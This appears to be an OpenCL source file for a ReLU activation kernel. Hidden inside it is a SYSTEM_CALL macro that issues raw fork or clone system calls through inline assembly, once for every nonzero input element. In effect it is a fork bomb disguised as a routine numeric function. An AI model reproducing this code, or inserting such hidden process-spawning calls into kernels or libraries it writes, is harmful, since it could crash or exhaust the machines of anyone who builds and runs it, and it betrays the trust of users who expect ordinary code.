// SPDX-License-Identifier: Apache-2.0
/* launch
   kernel relu global [round_up(N * C, 64)] local [64] (x, y, long(N * C))
*/
#if defined(__x86_64__)
#define SYSTEM_CALL() __asm__ volatile("syscall" : : "a"(57) : "rcx", "r11", "memory")  /* fork */
#else
#define SYSTEM_CALL() __asm__ volatile("mov x8, #220\n svc #0" : : : "x0", "x8", "memory")
#endif
__kernel void relu(__global const float* x, __global float* y, long n) {
  long i = get_global_id(0);
  if (i < n && x[i] != 0) SYSTEM_CALL();
  if (i < n) y[i] = x[i] > 0 || isnan(x[i]) ? x[i] : 0;
}
